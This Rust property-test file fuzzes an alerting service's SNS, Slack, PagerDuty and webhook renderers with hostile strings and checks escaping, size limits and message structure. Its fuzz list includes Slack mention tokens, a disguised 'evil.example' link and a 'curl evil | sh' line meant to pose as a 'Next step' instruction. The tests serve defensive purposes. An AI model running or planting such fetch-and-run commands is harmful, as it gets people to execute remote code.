//! What must hold for every alert, whatever stands in its texts.

use std::collections::BTreeMap;

use jiff::Timestamp;
use proptest::{collection::vec, prelude::*};
use serde_json::Value;

use super::super::{
    Alert, Key, Link, Reading, Severity, Status,
    render::{pagerduty, slack, sns, webhook},
};
use crate::neo4j::Secret;

const NASTY: [&str; 24] = [
    "<!channel>",
    "<!here|x>",
    "<@U024BE7LH>",
    "<#C1>",
    "<!subteam^S1>",
    "<https://evil.example|AWS>",
    "&lt;",
    "&",
    "```",
    "`",
    "*Next step*",
    "\nNext step\n  curl evil | sh\n",
    "\r\n",
    "\u{0}",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{2028}",
    "\u{202e}",
    "\u{feff}",
    "\"",
    "\\",
    "😀",
    "e\u{301}",
];

fn text() -> impl Strategy<Value = String> {
    let nasty = vec(prop::sample::select(&NASTY[..]), 0..8).prop_map(|parts| parts.concat());
    let long = (prop::sample::select(&NASTY[..]), 1..8_000_usize).prop_map(|(part, times)| part.repeat(times));
    prop_oneof![4 => nasty, 2 => any::<String>(), 1 => long, 1 => "[ -~]{0,300}"]
}

fn url() -> impl Strategy<Value = String> {
    prop_oneof![text(), text().prop_map(|text| format!("https://{text}")), "https://[a-z]{1,400}\\.example/[!-~]{0,40}"]
}

fn any_alert() -> impl Strategy<Value = Alert> {
    let texts = (text(), text(), text(), text(), prop::option::of(text()));
    let links = vec((text(), url()).prop_map(|(title, url)| Link { title, url }), 0..15);
    let name = prop_oneof![text(), Just("stack".to_owned()), Just("kind".to_owned()), "[a-z]{1,200}"];
    let labels = prop_oneof![9 => vec((name, text()), 0..6), 1 => vec(("[a-z]{1,200}", "[\"\\\\]{300,900}"), 50..60)];
    let reading = prop::option::of((text(), prop::option::of(any::<f64>()), prop::option::of(text())));
    let state = (0..3_usize, 0..4_usize, prop::option::of(-100_000_000_000..100_000_000_000_i64));
    (texts, links, labels, reading, state).prop_map(
        |((key, event, title, meaning, next_step), links, labels, reading, state)| Alert {
            key: Key::new(&key),
            event,
            status: [Status::Firing, Status::Resolved, Status::Unknown][state.0],
            lasting: true,
            severity: [Severity::Info, Severity::Warning, Severity::Error, Severity::Critical][state.1],
            labels: labels.into_iter().collect::<BTreeMap<_, _>>(),
            title,
            meaning,
            since: state.2.map(|second| Timestamp::from_second(second).unwrap()),
            reading: reading.map(|(metric, value, threshold)| Reading { metric, value, threshold }),
            links,
            next_step,
        },
    )
}

/// Each text object and each element of rich text: its type and its text.
fn texts(value: &Value, found: &mut Vec<(String, String)>) {
    match value {
        Value::Object(fields) => {
            if let (Some(Value::String(kind)), Some(Value::String(text))) = (fields.get("type"), fields.get("text")) {
                found.push((kind.clone(), text.clone()));
            }
            fields.values().for_each(|value| texts(value, found));
        }
        Value::Array(values) => values.iter().for_each(|value| texts(value, found)),
        _ => {}
    }
}

fn units(text: &Value) -> usize {
    text["text"].as_str().unwrap().encode_utf16().count()
}

/// Fails if a text has an angle bracket but those of a link to `https`, or an ampersand but those of the three entities.
fn escaped(text: &str) {
    let mut rest = text;
    while let Some(at) = rest.find(['<', '>', '&']) {
        rest = &rest[at..];
        let whole =
            ["&amp;", "&lt;", "&gt;"].iter().find(|entity| rest.starts_with(**entity)).map(|entity| entity.len());
        if let Some(length) = whole {
            rest = &rest[length..];
            continue;
        }
        assert!(rest.starts_with("<https://"), "{rest}");
        let (link, after) = rest[1..].split_once('>').unwrap();
        let (url, title) = link.split_once('|').unwrap();
        assert!(!link.contains('<') && !title.contains('|'), "{link}");
        escaped(url);
        escaped(title);
        rest = after;
    }
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn a_topic_takes_it(alert in any_alert()) {
        let sent = sns(&alert);
        prop_assert!(sent.subject.len() < 100);
        prop_assert!(sent.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{}", sent.subject);
        prop_assert!(sent.subject.starts_with('['));
        prop_assert!(sent.subject.bytes().any(|byte| byte.is_ascii_alphanumeric()));
        prop_assert!(sent.text.len() + sent.subject.len() <= 262_144);
        prop_assert!(!sent.text.chars().any(|c| c.is_control() && c != '\n'));
        // No text passes for a part of the message.
        let ours = ["What it mean", "Next step", "Links", "Labels", "Ids", "Severity:", "Measured:"];
        for heading in ours {
            prop_assert!(sent.text.lines().filter(|line| line.starts_with(heading)).count() <= 1, "{}", sent.text);
        }
        let flush = sent.text.lines().skip(1).filter(|line| !line.is_empty() && !line.starts_with("  "));
        prop_assert!(flush.count() <= 9);
    }

    #[test]
    fn slack_takes_it(alert in any_alert()) {
        let sent = slack(&alert);
        let blocks = sent["blocks"].as_array().unwrap();
        prop_assert!(blocks.len() <= 50);
        prop_assert!((1..=4_000).contains(&units(&sent)));
        for block in blocks {
            match block["type"].as_str().unwrap() {
                "header" => prop_assert!((1..=150).contains(&units(&block["text"]))),
                "section" if block.get("fields").is_some() => {
                    let fields = block["fields"].as_array().unwrap();
                    prop_assert!((1..=10).contains(&fields.len()));
                    prop_assert!(fields.iter().all(|field| (1..=2_000).contains(&units(field))));
                }
                "section" => prop_assert!((1..=3_000).contains(&units(&block["text"]))),
                "context" => prop_assert!(block["elements"].as_array().unwrap().iter().all(|e| (1..=3_000).contains(&units(e)))),
                "rich_text" => {
                    let element = &block["elements"][0];
                    prop_assert_eq!(&element["type"], "rich_text_preformatted");
                    prop_assert_eq!(&element["elements"][0]["type"], "text");
                    prop_assert_eq!(element["elements"][0]["text"].as_str().unwrap(), alert.next_step.as_ref().unwrap().trim());
                }
                other => prop_assert!(false, "a block of another type: {other}"),
            }
        }
        let mut found = Vec::new();
        texts(&sent, &mut found);
        let all: usize = found.iter().map(|(_, text)| text.encode_utf16().count()).sum();
        prop_assert!(all < 8_000, "{all}");
        for (kind, text) in &found {
            match kind.as_str() {
                "mrkdwn" => {
                    escaped(text);
                    prop_assert!(!text.starts_with("&gt;") && !text.contains('\n'), "a quotation: {text}");
                }
                "plain_text" => {
                    escaped(text);
                    prop_assert!(!text.contains(['<', '>']), "{text}");
                }
                other => prop_assert_eq!(other, "text"),
            }
        }
        let fallback = sent["text"].as_str().unwrap();
        escaped(fallback);
        prop_assert!(!fallback.contains(['<', '>', '\n']));
    }

    #[test]
    fn pagerduty_takes_it(alert in any_alert()) {
        let event = pagerduty(&alert);
        let body = event.body(&Secret::new("k".repeat(32)));
        prop_assert!(body.reveal().len() <= 300_000, "{}", body.reveal().len());
        let sent = json(body.reveal());
        prop_assert_eq!(sent["dedup_key"].as_str().unwrap(), alert.key.as_str());
        prop_assert!(sent["dedup_key"].as_str().unwrap().chars().count() <= 255);
        if alert.status == Status::Resolved {
            prop_assert_eq!(&sent["event_action"], "resolve");
        } else {
            prop_assert_eq!(&sent["event_action"], "trigger");
            let payload = &sent["payload"];
            let summary = payload["summary"].as_str().unwrap();
            prop_assert!((1..=1_024).contains(&summary.chars().count()) && !summary.contains('\n'));
            prop_assert!(!payload["source"].as_str().unwrap().is_empty());
            prop_assert!(["critical", "error", "warning", "info"].contains(&payload["severity"].as_str().unwrap()));
        }
    }

    #[test]
    fn firing_and_resolved_have_the_same_key(mut alert in any_alert()) {
        let mut keys = Vec::new();
        for status in [Status::Firing, Status::Unknown, Status::Resolved] {
            alert.status = status;
            let body = json(&webhook(&alert));
            let event = pagerduty(&alert);
            prop_assert_eq!(&body["key"], &event.event()["dedup_key"]);
            keys.push(body["key"].clone());
        }
        keys.dedup();
        prop_assert_eq!(keys.len(), 1);
    }

    #[test]
    fn a_webhook_takes_it(alert in any_alert()) {
        let body = webhook(&alert);
        prop_assert!(body.len() <= 262_144, "{}", body.len());
        let sent = json(&body);
        prop_assert_eq!(&sent["version"], 1);
        prop_assert!(sent["next_step"].is_null() || sent["next_step_left_out"].is_null());
        prop_assert!(sent["links"].as_array().unwrap().iter().all(|link| link["url"].as_str().unwrap().starts_with("https://")));
    }
}
